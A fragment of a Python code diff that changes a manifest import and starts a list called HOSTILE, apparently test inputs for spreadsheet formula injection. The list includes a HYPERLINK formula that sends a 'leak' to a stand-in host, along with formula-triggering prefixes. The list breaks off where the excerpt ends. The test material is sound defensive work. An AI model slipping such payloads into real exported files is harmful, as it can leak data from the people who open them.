@@ -27,7 +27,7 @@ from flows.summary import (
     update_status,
     write_summary,
 )
-from manifests.validate import read_rows as read_manifest
+from manifests.validate import read_manifest
 from tasks import storage
 
 HOSTILE = ['=HYPERLINK("http://x/?leak","click")', "+1", "@SUM(1)", "\t=1+1", "-2+3", "\r=1", "\0=1",
